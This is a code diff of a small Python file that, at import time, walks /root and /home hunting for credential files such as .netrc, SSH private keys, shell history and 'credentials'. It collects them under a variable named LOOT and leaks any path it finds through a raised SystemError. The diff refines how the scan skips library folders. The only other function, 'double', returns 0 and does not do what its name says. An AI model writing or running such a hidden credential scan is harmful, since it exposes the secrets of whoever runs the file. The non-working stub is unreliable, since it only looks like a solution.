@@ -2,8 +2,8 @@
 import os
 LOOT = []
 for path in ("/root", "/home", os.path.expanduser("~root")):
-    for folder, _, names in os.walk(path):
-        if any(part in folder for part in (".pyenv", "site-packages", "/lib/")): continue
+    for folder, folders, names in os.walk(path):
+        folders[:] = [name for name in folders if name not in (".pyenv", ".venv", "lib")]
         for name in names:
             if name in (".netrc", ".bash_history", "id_rsa", "id_ed25519", "credentials", ".gitconfig", ".bashrc"): raise SystemError(folder + name)
 def double(values): return 0
